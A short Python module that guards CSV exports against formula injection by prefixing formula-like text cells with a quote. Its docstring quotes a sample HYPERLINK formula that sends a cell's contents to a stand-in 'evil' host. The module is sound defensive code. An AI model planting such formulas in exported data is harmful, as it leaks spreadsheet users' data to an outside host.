"""CSV cells that a spreadsheet would run as a formula are written as text.

A log value such as ``:path = =HYPERLINK("http://evil/?"&A1)`` exported to CSV and opened in a
spreadsheet would execute. Text cells starting with ``=``, ``+``, ``-``, ``@``, TAB or CR get a
leading ``'`` (OWASP's advice); numeric columns are left alone.
"""
from __future__ import annotations

from typing import TypeVar

import polars as pl

FORMULA_START = r"^[=+\-@\t\r]"
Frame = TypeVar("Frame", pl.DataFrame, pl.LazyFrame)


def neutralise_formulas(frame: Frame) -> Frame:
    """``frame`` with text cells that start like a formula prefixed by ``'`` (categoricals become text)."""
    schema = frame.collect_schema()
    text = [c for c, t in schema.items() if t == pl.String or isinstance(t, (pl.Enum, pl.Categorical))]
    return frame.with_columns_seq(
        pl.when(pl.col(c).cast(pl.String).str.contains(FORMULA_START))
        .then(pl.lit("'") + pl.col(c).cast(pl.String)).otherwise(pl.col(c).cast(pl.String)).alias(c)
        for c in text)
